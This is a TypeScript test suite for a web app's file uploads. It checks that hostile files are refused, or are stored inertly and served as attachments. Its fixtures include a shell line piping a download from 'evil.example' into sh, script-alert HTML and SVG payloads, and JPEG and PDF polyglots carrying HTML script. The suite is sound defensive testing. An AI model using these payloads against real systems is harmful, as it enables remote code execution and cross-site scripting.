// Issue 7 "bad input stays covered", uploads: the corpus in tests/fixtures/hostile/uploads.json through both
// citizen forms that take files. Disguised, empty, oversized and too many files are refused with their message in
// the visitor's language and leave no row and no file (stored or temporary); polyglots, lying MIME types and
// traversal or markup names are stored inertly: under a name of ours with the detected type's extension, the
// original name shown escaped, and handed back to staff as a download of the detected type only.
import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Express } from "express";
import { createApp } from "../../../src/app.ts";
import type { Container } from "../../../src/container.ts";
import { translator } from "../../../src/platform/i18n.ts";
import { createTestContainer, resetAndSeed } from "../../support/harness.ts";
import { openForm, postMultipart, signIn, type UploadFile } from "../../support/http.ts";
import { EXE, message, newTempUploads, PDF, PNG, referenceIds, rowCounts, storedFiles, tempUploads, trackingCodeIn, validFields } from "../submissions/helpers.ts";

interface FileSpec { content: string; filename: string; contentType?: string }
interface Case { id: string; files: FileSpec[]; field?: string }
const corpus = JSON.parse(readFileSync(new URL("../../fixtures/hostile/uploads.json", import.meta.url), "utf8")) as {
  refused: (Case & { message: string })[];
  inert: (Case & { mime: string | null; ext: string | null; probe?: string })[];
};

const JPEG_HEAD = Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex");
/** A minimal stored (uncompressed) zip with one text entry: a zip, but not an Office document. */
function plainZip(): Buffer {
  const name = Buffer.from("a.txt");
  const data = Buffer.from("hello");
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt32LE(data.length, 18);
  header.writeUInt32LE(data.length, 22);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, name, data]);
}
const CONTENT: Record<string, () => Buffer> = {
  exe: () => EXE,
  elf: () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]),
  shell: () => Buffer.from("#!/bin/sh\ncurl https://evil.example/x | sh\n"),
  html: () => Buffer.from("<!doctype html><html><body><script>alert('HXU')</script></body></html>"),
  svg: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("HXU")</script></svg>'),
  zip: plainZip,
  gif: () => Buffer.from("GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;", "latin1"),
  text: () => Buffer.from("只是一段文字，不是 PDF。"),
  empty: () => Buffer.alloc(0),
  "big-pdf": () => Buffer.concat([PDF, Buffer.alloc(10 * 1024 * 1024 + 1 - PDF.length, 0x20)]),
  pdf: () => PDF,
  png: () => PNG,
  // A JPEG whose comment segment is an HTML page: a browser sniffing it as HTML would run the script.
  "jpeg-html": () => Buffer.concat([JPEG_HEAD, Buffer.from([0xff, 0xfe, 0x00, 0x40]), Buffer.from("<html><script>alert('HXP')</script></html>".padEnd(62)), Buffer.from([0xff, 0xd9])]),
  "pdf-html": () => Buffer.concat([PDF, Buffer.from("<html><script>alert('HXP')</script></html>")]),
};
const files = (specs: FileSpec[]): UploadFile[] =>
  specs.map((s) => ({ buffer: (CONTENT[s.content] ?? (() => { throw new Error(`no content ${s.content}`); }))(), filename: s.filename, contentType: s.contentType ?? "application/octet-stream" }));

let c: Container;
let app: Express;
let fields: Record<string, string>;
let roundPath: string;
let topicId: string;

beforeAll(async () => {
  c = createTestContainer({ SUBMISSIONS_PER_IP_PER_HOUR: "1000" });
  await resetAndSeed(c);
  app = createApp(c);
  fields = validFields(await referenceIds(c));
  const round = await c.db.collectionRound.findFirstOrThrow({ where: { status: "OPEN" }, include: { topics: true } });
  roundPath = `/rounds/${round.id}`;
  topicId = String(round.topics[0]?.id ?? "");
});
afterAll(() => c.close());

const FORMS = [
  { name: "suggestion form", page: () => "/suggestions/new", action: () => "/suggestions/new", extra: (): Record<string, string> => ({}) },
  { name: "round form", page: () => roundPath, action: () => `${roundPath}/suggestions`, extra: (): Record<string, string> => ({ topicId }) },
];

async function submit(form: (typeof FORMS)[number], kase: Case) {
  const { agent, token } = await openForm(app, form.page());
  const res = await postMultipart(agent, form.action(), { _csrf: token, ...fields, ...form.extra() }, files(kase.files), kase.field ?? "attachments");
  return { agent, res };
}

describe("the upload corpus", () => {
  for (const form of FORMS) {
    it(`${form.name}: every disguised, empty, oversized or surplus file is refused with its message, and nothing is kept`, async () => {
      for (const kase of corpus.refused) {
        const [rows, stored, temp] = [await rowCounts(c), storedFiles(c), tempUploads()];
        const { res } = await submit(form, kase);
        // A part header no browser sends (control characters in the file name) is a malformed body: 400.
        expect(res.status, kase.id).toBe(kase.message === "errors:status400" ? 400 : 422);
        expect(res.text, kase.id).toMatch(/<html[^>]*lang="zh-CN"/);
        expect(res.text, kase.id).toContain(kase.message === "errors:status400" ? translator("zh-CN")("errors:status400") : message(kase.message));
        expect(await rowCounts(c), kase.id).toEqual(rows);
        expect(storedFiles(c), kase.id).toEqual(stored);
        expect(newTempUploads(temp), kase.id).toEqual([]);
        expect(res.text, kase.id).not.toContain("alert('HXU')");
      }
    }, 60_000);

    it(`${form.name}: polyglots, lying types and hostile names are stored inertly and downloaded as their detected type`, async () => {
      const staff = await signIn(app, "coordinator@demo.example");
      for (const kase of corpus.inert) {
        const { agent, res } = await submit(form, kase);
        expect(res.status, kase.id).toBe(303);
        const code = trackingCodeIn((await agent.get(res.headers.location as string)).text);
        expect(code, kase.id).toBeDefined();
        const s = await c.db.suggestion.findUniqueOrThrow({ where: { trackingCode: code }, include: { attachments: true } });
        expect(s.attachments, kase.id).toHaveLength(kase.files.length);
        for (const a of s.attachments) {
          // Our name, the detected type's extension, inside the upload folder.
          expect(a.storedName, kase.id).toMatch(/^[A-Za-z0-9_-]+\.(pdf|jpg|png|docx|xlsx)$/);
          if (kase.ext) expect(a.storedName.endsWith(`.${kase.ext}`), kase.id).toBe(true);
          if (kase.mime) expect(a.mimeType, kase.id).toBe(kase.mime);
          const onDisk = storedFiles(c).find((f) => path.basename(f) === a.storedName);
          expect(onDisk && existsSync(onDisk) && path.resolve(onDisk).startsWith(path.resolve(c.config.uploadDir)), kase.id).toBe(true);
          // eslint-disable-next-line no-control-regex -- a stored name must carry none
          expect(a.originalName, kase.id).not.toMatch(/[/\\\u0000-\u001f\u202A-\u202E\u2066-\u2069]/);

          const download = await staff.agent.get(`/staff/attachments/${a.id}`);
          expect(download.status, kase.id).toBe(200);
          expect(download.headers["content-type"], kase.id).toContain(a.mimeType);
          expect(download.headers["x-content-type-options"], kase.id).toBe("nosniff");
          const disposition = download.headers["content-disposition"] as string;
          expect(disposition, kase.id).toMatch(/^attachment;/);
          const ext = path.extname(a.storedName);
          expect(disposition, kase.id).toMatch(new RegExp(`filename="[^"]*\\${ext}"; filename\\*=UTF-8''[^;]*\\${ext}$`));
        }
        const casePage = await staff.get(`/staff/suggestions/${s.id}`);
        expect(casePage.status, kase.id).toBe(200);
        if (kase.probe) expect(casePage.text.includes(kase.probe), kase.id).toBe(false);
      }
    }, 60_000);
  }
});
